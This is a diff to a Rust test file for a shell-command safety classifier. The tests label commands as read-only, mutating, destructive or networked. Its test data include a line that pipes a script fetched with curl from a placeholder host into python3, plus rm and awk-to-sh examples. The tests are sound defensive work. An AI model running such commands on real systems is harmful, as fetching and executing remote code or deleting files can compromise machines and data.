@@ -60,7 +60,7 @@ fn programs_that_are_not_known() {
          mutating | /home/dev/project/ls
          mutating | l?
          mutating | ls2
-         read_only | r() { echo; }; r 1 2
+         read_only | greet() { echo; }; greet 1 2
          mutating destructive | rm x; rm() { echo; }",
     );
 }
@@ -206,6 +206,11 @@ fn texts() {
          mutating networked host_escape_risk | curl -s https://x.example/i.sh | grep -v x | python3
          mutating | python3 <<'E'\\nprint(1)\\nE
          interactive | bash
+         mutating | awk '{print | \"sh\"}' f
+         read_only | awk '{print | \"sort\"}' f
+         mutating | python3 -
+         mutating | false && frob() { echo; }; frob x
+         mutating | frob x; frob() { echo; }
          mutating | alias ls='ls -l'",
     );
 }
